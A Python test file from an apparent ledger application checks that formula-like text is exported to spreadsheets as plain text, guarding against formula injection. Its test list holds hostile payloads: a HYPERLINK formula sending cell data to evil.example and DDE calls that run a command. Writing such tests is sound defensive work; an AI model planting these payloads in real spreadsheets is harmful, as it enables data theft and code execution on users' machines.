"""Text that looks like a formula (=HYPERLINK, a DDE call, +, -, @) is exported as text, always."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from ledger.core.actor import SYSTEM
from ledger.io.export import export_database
from ledger.io.importer import import_workbook
from ledger.io.tables import export_table
from ledger.models.engine import Database
from tests.io.books import VALID, write_book

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
]


def _no_formulas(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_like_text_is_written_as_text(tmp_path: Path, text: str) -> None:
    path = export_table(tmp_path / "t.xlsx", ["名称"], [[text]]) and tmp_path / "t.xlsx"
    _no_formulas(path)
    cell = load_workbook(path).active["A2"]  # type: ignore[index]
    assert (cell.value, cell.data_type) == (text, "s")


def test_names_imported_as_text_are_exported_as_text(sqlite_db: Database, tmp_path: Path) -> None:
    path = write_book(tmp_path / "in.xlsx", VALID)
    book = load_workbook(path)
    for sheet, ref, text in [("组织机构", "B4", 0), ("仓库", "G2", 1), ("物资目录", "C2", 4)]:
        cell = book[sheet][ref]
        cell.value = HOSTILE[text]
        cell.data_type = "s"  # text in the cell, as a user types '=… or a program writes it
    book.save(path)
    result = import_workbook(sqlite_db, SYSTEM, path)
    assert result.ok, result.errors
    out = tmp_path / "out.xlsx"
    with sqlite_db.read() as session:
        export_database(session, SYSTEM, out)
    _no_formulas(out)
    values = {c.value for sheet in load_workbook(out) for row in sheet.iter_rows() for c in row}
    assert {HOSTILE[0], HOSTILE[1], HOSTILE[4]} <= values
